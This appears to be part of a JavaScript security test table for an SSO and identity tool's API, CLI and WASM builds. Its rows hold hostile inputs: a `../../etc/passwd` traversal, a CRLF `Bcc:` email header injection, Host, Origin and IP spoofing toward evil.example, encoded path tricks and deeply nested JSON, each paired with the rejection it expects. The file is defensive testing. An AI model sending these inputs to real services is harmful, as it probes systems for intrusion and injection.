  { id: 'api-explain-1mb', where: 'api', via: 'POST /api/v1/entra/explain', input: '1 MB AADSTS text (under the 1 MiB body limit)', make: () => post('/api/v1/entra/explain', json({ text: `AADSTS50011: ${'x'.repeat(1_000_000)}` })), expect: 'entra_error.too_large', status: 413 },
  { id: 'api-explain-surrogate', where: 'api', via: 'POST /api/v1/entra/explain', input: '`{"text": "AADSTS50011 \\udfff"}`', make: () => post('/api/v1/entra/explain', '{"text":"AADSTS50011 \\udfff"}'), expect: 'request.invalid_json', status: 400 },
  { id: 'cli-explain-1mb', where: 'cli', via: 'entra explain', input: '1 MB error text file', make: () => ({ args: ['entra', 'explain', '{error.txt}'], files: { 'error.txt': `AADSTS50011: ${'x'.repeat(1_000_000)}` } }), expect: 'entra_error.too_large', exit: 1 },
  { id: 'cli-explain-binary', where: 'cli', via: 'entra explain', input: 'binary file (garbage.bin) on standard input', make: (fx) => ({ args: ['entra', 'explain', '-'], stdin: fx.garbage }), expect: 'entra_error.no_code', exit: 1 },
];

const jsonRows = [
  { id: 'wasm-plan-array', where: 'wasm', via: 'buildPlan', input: 'JSON text `[1,2]`', make: () => ['[1,2]'], expect: 'plan.invalid_json' },
  { id: 'wasm-plan-number', where: 'wasm', via: 'buildPlan', input: 'a number (`42`), not an object', make: () => [42], expect: 'plan.invalid_json' },
  { id: 'wasm-plan-surrogate', where: 'wasm', via: 'buildPlan', input: 'JSON text `{"region":"\\ud800"}`', make: () => ['{"region":"\\ud800"}'], expect: 'plan.invalid_json' },
  { id: 'api-plan-array', where: 'api', via: 'POST /api/v1/plan', input: 'JSON array body', make: () => post('/api/v1/plan', '[{"region":"eu"}]'), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-plan-number', where: 'api', via: 'POST /api/v1/plan', input: 'JSON number body', make: () => post('/api/v1/plan', '1e999'), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-plan-duplicate-keys', where: 'api', via: 'POST /api/v1/plan', input: '`{"region":"eu","region":"us"}`', make: () => post('/api/v1/plan', '{"region":"eu","region":"us"}'), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-plan-deep-array', where: 'api', via: 'POST /api/v1/plan', input: '100,000 nested arrays', make: () => post('/api/v1/plan', `${'['.repeat(100_000)}${']'.repeat(100_000)}`), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-plan-deep-field', where: 'api', via: 'POST /api/v1/plan', input: '`region` holding 100,000 nested arrays', make: () => post('/api/v1/plan', `{"region":${'['.repeat(100_000)}${']'.repeat(100_000)}}`), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-saml-deep-plan', where: 'api', via: 'POST /api/v1/saml/inspect', input: '`plan` nested 5,000 objects deep', make: () => post('/api/v1/saml/inspect', `{"samlResponse":"x","plan":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`), expect: 'request.invalid_json', status: 400 },
  { id: 'api-plan-utf16', where: 'api', via: 'POST /api/v1/plan', input: 'body in UTF-16 LE with BOM', make: () => post('/api/v1/plan', utf16le('{"region":"eu"}')), expect: 'plan.invalid_json', status: 400 },
  { id: 'api-plan-utf8-bom', where: 'api', via: 'POST /api/v1/plan', input: 'body with a UTF-8 BOM', make: () => post('/api/v1/plan', utf8Bom('{"region":"eu"}')), expect: 'ok', status: 200, observe: (plan) => (plan.region === 'eu' ? 'ok' : `region ${plan.region}`) },
  { id: 'api-plan-latin1', where: 'api', via: 'POST /api/v1/plan', input: 'Latin-1 byte in `description` (`Caf\\xe9`)', make: () => post('/api/v1/plan', Buffer.from('{"region":"eu","description":"Caf\xe9 SSO"}', 'latin1')), expect: 'ok', status: 200, observe: () => 'ok' },
  { id: 'api-plan-text-plain', where: 'api', via: 'POST /api/v1/plan', input: 'JSON sent as text/plain', make: () => post('/api/v1/plan', '{"region":"eu"}', 'text/plain'), expect: 'request.unsupported_media_type', status: 415 },
  { id: 'api-cert-image-png', where: 'api', via: 'POST /api/v1/certificate/inspect', input: 'the DER certificate sent as image/png', make: (fx) => post('/api/v1/certificate/inspect', fx.certificate.der, 'image/png'), expect: 'request.unsupported_media_type', status: 415 },
  { id: 'api-cert-no-type', where: 'api', via: 'POST /api/v1/certificate/inspect', input: 'no Content-Type', make: (fx) => ({ method: 'POST', path: '/api/v1/certificate/inspect', headers: {}, body: new Blob([fx.certificate.pem]) }), expect: 'request.unsupported_media_type', status: 415 },
  { id: 'api-cert-json-duplicate', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '`{"certificate":…,"certificate":…}`', make: (fx) => post('/api/v1/certificate/inspect', `{"certificate":${json(fx.certificate.pem)},"certificate":"x"}`), expect: 'request.invalid_json', status: 400 },
  { id: 'cli-plan-input-array', where: 'cli', via: 'plan', input: '`plan --input -` given a JSON array', make: () => ({ args: ['plan', '--input', '-'], stdin: '[{"region":"eu"}]' }), expect: 'plan.invalid_json', exit: 1 },
];

const httpRows = [
  { id: 'api-dot-segments', where: 'api', via: 'GET (raw request line)', input: '`GET /api/v1/../v1/health` (dot segments, sent as is)', make: () => ({ raw: raw('GET /api/v1/../v1/health HTTP/1.1\r\nhost: {host}') }), expect: 'ok', status: 200, note: 'the URL parser resolves dot segments before the Worker reads the path, so this is `/api/v1/health`; `/api/v1/x/../mimecast/…` likewise still needs the proxy\'s credential (next row)', observe: (body) => (body?.status === 'ok' ? 'ok' : JSON.stringify(body)) },
  { id: 'api-dot-segments-proxy', where: 'api', via: 'POST (raw request line)', input: '`POST /api/v1/x/../mimecast/get-account` from another host, no credential', make: () => ({ raw: raw('POST /api/v1/x/../mimecast/get-account HTTP/1.1\r\nhost: evil.example\r\ncontent-type: application/json', '{}') }), expect: 'auth.invalid', status: 403 },
  { id: 'api-encoded-slash', where: 'api', via: 'GET (raw request line)', input: '`GET /api/v1%2fhealth` (encoded slash)', make: () => ({ raw: raw('GET /api/v1%2fhealth HTTP/1.1\r\nhost: {host}') }), expect: 'route.not_found', status: 404 },
  { id: 'api-encoded-dots-proxy', where: 'api', via: 'POST (raw request line)', input: '`/api/v1/mimecast/get-account%2f..%2f..%2fplan`', make: () => ({ raw: raw('POST /api/v1/mimecast/get-account%2f..%2f..%2fplan HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json', '{}') }), expect: 'route.not_found', status: 404 },
  { id: 'api-absolute-url', where: 'api', via: 'POST (raw request line)', input: 'absolute-form target `http://evil.example/api/v1/mimecast/get-account`', make: () => ({ raw: raw('POST http://evil.example/api/v1/mimecast/get-account HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json', '{}') }), expect: 'HTTP 500', status: 500, note: "answered by `wrangler dev`'s own proxy (plain-text 500 for any absolute-form target, its own host's too), the Worker never runs; Cloudflare's edge parses such a target before a Worker sees it", check: (r) => (r.texts[2].includes('"route":"POST /api/v1/mimecast/get-account"') ? 'the Worker answered it' : undefined) },
  { id: 'api-host-spoof', where: 'api', via: 'POST /api/v1/mimecast/get-account', input: '`Host: evil.example` to a proxy route (local-dev auth admits loopback only)', make: () => ({ raw: raw('POST /api/v1/mimecast/get-account HTTP/1.1\r\nhost: evil.example\r\ncontent-type: application/json', '{}') }), expect: 'auth.invalid', status: 403 },
  { id: 'api-client-ip-spoof', where: 'api', via: 'POST /api/v1/mimecast/get-account', input: '`CF-Connecting-IP: 8.8.8.8` and `X-Forwarded-For: 127.0.0.1`', make: () => post('/api/v1/mimecast/get-account', '{}', 'application/json', { 'cf-connecting-ip': '8.8.8.8', 'x-forwarded-for': '127.0.0.1' }), expect: 'auth.invalid', status: 403 },
  { id: 'api-wrong-token', where: 'api', via: 'POST /api/v1/mimecast/get-account', input: '`Authorization: Bearer` a wrong token', make: () => post('/api/v1/mimecast/get-account', '{}', 'application/json', { authorization: 'Bearer not-the-token' }), expect: 'auth.invalid', status: 403 },
  { id: 'api-origin-spoof', where: 'api', via: 'POST /api/v1/plan', input: '`Origin: https://evil.example` on a public route', make: () => post('/api/v1/plan', '{"region":"eu"}', 'application/json', { origin: 'https://evil.example' }), expect: 'ok', status: 200, observe: () => 'ok', check: (r) => (r.headers['access-control-allow-origin'] ? `Access-Control-Allow-Origin: ${r.headers['access-control-allow-origin']}` : undefined) },
  { id: 'api-preflight-evil', where: 'api', via: 'OPTIONS /api/v1/mimecast/create-user', input: 'CORS preflight from `https://evil.example`', make: () => ({ method: 'OPTIONS', path: '/api/v1/mimecast/create-user', headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization,content-type' } }), expect: 'cors.origin_not_allowed', status: 403 },
  { id: 'api-header-200kb', where: 'api', via: 'GET /api/v1/health', input: 'a 200 KB header', make: () => ({ path: '/api/v1/health', headers: { 'x-hostile': 'a'.repeat(200_000) } }), expect: ['HTTP 431', 'ok'], status: [431, 200], observe: (body) => (body?.status === 'ok' ? 'ok' : JSON.stringify(body)), note: 'workerd refuses it with 431 before the Worker runs; one run of many got the health answer (200) instead, most likely while `wrangler dev` was reloading after another build in this checkout; either answer is harmless (Cloudflare\'s edge has its own header limit)' },
  { id: 'api-header-crlf', where: 'api', via: 'POST /api/v1/mimecast/create-user', input: 'an address with `\\r\\nBcc:` (header injection), name with NUL', make: () => post('/api/v1/mimecast/create-user', json({ emailAddress: 'ann@example.com\r\nBcc: evil@evil.example', name: 'Ann\u0000', password: 'Example-Passw0rd-1' })), expect: 'mimecast.email_invalid', status: 400 },
  { id: 'api-method-put', where: 'api', via: 'PUT /api/v1/plan', input: 'PUT on a POST route', make: () => ({ method: 'PUT', path: '/api/v1/plan', headers: { 'content-type': 'application/json' }, body: '{}' }), expect: 'method.not_allowed', status: 405 },
  { id: 'api-metadata-traversal', where: 'api', via: 'GET /api/v1/entra/metadata', input: '`?tenant=../../etc/passwd&appid=x`', make: () => ({ path: '/api/v1/entra/metadata?tenant=..%2F..%2Fetc%2Fpasswd&appid=x' }), expect: 'tenant.invalid', status: 400 },
  { id: 'api-metadata-extra-url', where: 'api', via: 'GET /api/v1/entra/metadata', input: 'an extra `url=http://evil.example/` parameter', make: () => ({ path: `/api/v1/entra/metadata?tenant=${TENANT}&url=http://evil.example/` }), expect: 'metadata.query_invalid', status: 400 },
  { id: 'api-batch-101', where: 'api', via: 'POST /api/v1/mimecast/users:batch', input: '101 users in one batch', make: () => post('/api/v1/mimecast/users:batch', json({ users: Array.from({ length: 101 }, (_, i) => ({ emailAddress: `u${i}@example.com`, name: `U ${i}`, password: 'Example-Passw0rd-1' })) })), expect: 'provisioning.batch_too_large', status: 400 },
];

/** Every row, in the table's order. */
export const rows = [
  ...certificateRows, ...metadataRows, ...csvRows, ...samlRows, ...explainRows, ...jsonRows, ...httpRows,
];
